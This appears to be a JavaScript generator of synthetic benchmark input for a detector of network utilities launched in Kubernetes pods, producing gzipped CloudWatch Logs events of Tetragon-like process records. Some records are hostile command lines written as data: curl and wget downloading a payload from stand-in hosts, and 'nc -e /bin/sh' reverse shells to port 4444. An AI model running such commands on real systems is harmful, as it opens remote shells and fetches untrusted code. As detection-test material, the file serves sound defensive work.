// Writes the benchmark's input: BATCHES Lambda events of EVENTS Tetragon-like process_exec lines, in
// three mixes: "mix" (1 in 200 a network utility launched from /tmp, the rest ordinary container
// processes, all in 97 pods of one deployment), "fleet" (the same, but every utility runs in a pod and
// container of its own, so none aggregate: an incident across a fleet) and "worst" (every event a
// utility that must be parsed and judged).
import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

const ORDINARY = [
  ["/usr/local/bin/node", "server.js --port 8080"],
  ["/bin/sh", "-c /app/healthcheck.sh"],
  ["/usr/bin/python3.12", "-m gunicorn app:wsgi -w 4"],
  ["/bin/ls", "-la /var/lib/app"],
  ["/usr/bin/find", "/var/cache -mtime +7 -delete"],
  ["/bin/cat", "/etc/resolv.conf"],
  ["/usr/sbin/nginx", "-g daemon off;"],
  ["/usr/bin/java", "-Xmx512m -jar /app/service.jar"],
];
const UTILITIES = [
  ["/tmp/.x/curl", "-fsSL http://203.0.113.7/payload -o /tmp/.x/p"],
  ["/usr/bin/wget", "-q http://198.51.100.4/a.sh -O /tmp/a.sh"],
  ["/tmp/nc", "-e /bin/sh 198.51.100.23 4444"],
];

/** Where event `i` runs: one of 97 pods sharing a container, or (fleet) a pod of its own. */
function placement(i, own) {
  const suffix = (own ? i : i % 97).toString(36).padStart(5, "x");
  const id = own
    ? createHash("sha256").update(`container-${i}`).digest("hex")
    : "6f1c2e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b";
  return {
    pod: `checkout-api-7d9f6c5b8-${suffix}`,
    id,
    name: own ? `checkout-api-${suffix}` : "checkout-api",
  };
}

function line(i, binary, args, parent, own = false) {
  const where = placement(i, own);
  return JSON.stringify({
    process_exec: {
      process: {
        exec_id: Buffer.from(`ip-10-0-12-34:${1_000_000 + i}:${i}`).toString("base64"),
        pid: 20_000 + (i % 40_000),
        uid: 1000,
        cwd: "/app",
        binary,
        arguments: args,
        flags: "execve clone",
        start_time: "2026-11-28T10:15:02.118273645Z",
        auid: 4294967295,
        pod: {
          namespace: "payments",
          name: where.pod,
          container: {
            id: `containerd://${where.id}`,
            name: where.name,
            image: {
              id: "sha256:3b1f0c9e7d2a",
              name: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout-api:1.42.0",
            },
            start_time: "2026-11-28T08:12:44Z",
            pid: 1,
          },
          pod_labels: { app: "checkout-api" },
          workload: "checkout-api",
          workload_kind: "Deployment",
        },
        docker: where.id.slice(0, 31),
        parent_exec_id: Buffer.from(`ip-10-0-12-34:${999_000 + i}`).toString("base64"),
        tid: 20_000 + (i % 40_000),
      },
      parent: { binary: parent, arguments: "", pid: 19_000, cwd: "/app", flags: "execve" },
    },
    node_name: "ip-10-0-12-34.ec2.internal",
    time: new Date(Date.UTC(2026, 10, 28, 10) + i).toISOString(),
  });
}

function payloadOf(logStream, logEvents) {
  return {
    messageType: "DATA_MESSAGE",
    owner: "123456789012",
    logGroup: "/aws/containerinsights/prod-eks/application",
    logStream,
    subscriptionFilters: ["netutil-detector"],
    logEvents,
  };
}

function eventOf(payloadJson) {
  return JSON.stringify({ awslogs: { data: gzipSync(payloadJson).toString("base64") } });
}

/** Writes one Lambda event as CloudWatch Logs delivers it; returns its path. */
function writeEvent(file, logStream, logEvents) {
  writeFileSync(file, eventOf(JSON.stringify(payloadOf(logStream, logEvents))));
  return file;
}

/** The log events of one batch of `mix` ("mix", "fleet" or "worst"), event numbers from `first`. */
function logEventsOf(mix, first, events) {
  const logEvents = [];
  let utilities = 0;
  for (let i = first; i < first + events; i++) {
    const isUtility = mix === "worst" || i % 200 === 17;
    const [binary, args] = isUtility ? UTILITIES[i % UTILITIES.length] : ORDINARY[i % ORDINARY.length];
    const parent = isUtility ? "/tmp/.x/loader" : "/usr/bin/tini";
    if (isUtility) utilities++;
    logEvents.push({
      id: String(38_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
      timestamp: Date.UTC(2026, 10, 28, 10) + i,
      message: line(i, binary, args, parent, mix === "fleet" && isUtility),
    });
  }
  return { logEvents, utilities };
}

/** Writes the files of one mix and returns their paths and how many events are utilities. */
export function generate(dir, batches = 10, events = 5000, mix = "mix") {
  mkdirSync(dir, { recursive: true });
  const files = [];
  let utilities = 0;
  for (let b = 0; b < batches; b++) {
    const batch = logEventsOf(mix, b * events, events);
    utilities += batch.utilities;
    files.push(writeEvent(join(dir, `${mix}-${b}.json`), `tetragon-bench-${b}`, batch.logEvents));
  }
  return { files, utilities };
}

/**
 * The largest batch CloudWatch Logs can hand the function: as many fleet-mix events as fit in a Lambda
 * event of at most `maxEventBytes` (the asynchronous invocation limit). Returns its path and sizes.
 */
export function generateMaximal(dir, maxEventBytes = 1024 * 1024) {
  mkdirSync(dir, { recursive: true });
  const file = join(dir, "maximal.json");
  const eventBytes = (n) => {
    const payload = JSON.stringify(payloadOf("tetragon-bench-maximal", logEventsOf("fleet", 0, n).logEvents));
    return { n, decompressed: Buffer.byteLength(payload), event: eventOf(payload).length };
  };
  // Grow, then bisect, the number of events that still fits.
  let low = eventBytes(1000);
  let high = low;
  while (high.event <= maxEventBytes) {
    low = high;
    high = eventBytes(high.n * 2);
  }
  while (high.n - low.n > 50) {
    const mid = eventBytes(Math.floor((low.n + high.n) / 2));
    if (mid.event <= maxEventBytes) low = mid;
    else high = mid;
  }
  writeEvent(file, "tetragon-bench-maximal", logEventsOf("fleet", 0, low.n).logEvents);
  return { file, events: low.n, decompressedBytes: low.decompressed, eventBytes: low.event };
}

/** One busy batch: `signals` distinct reverse shells (distinct targets), so nothing aggregates. */
export function generateBusy(dir, signals = 250) {
  mkdirSync(dir, { recursive: true });
  const logEvents = [];
  for (let i = 0; i < signals; i++) {
    logEvents.push({
      id: String(39_000_000_000_000_000_000_000_000_000_000_000_000_000_000n + BigInt(i)),
      timestamp: Date.UTC(2026, 10, 28, 11) + i,
      message: line(i, "/tmp/nc", `-e /bin/sh 198.51.${100 + (i >> 8)}.${i & 255} 4444`, "/tmp/.x/loader"),
    });
  }
  return writeEvent(join(dir, "busy.json"), "tetragon-bench-busy", logEvents);
}
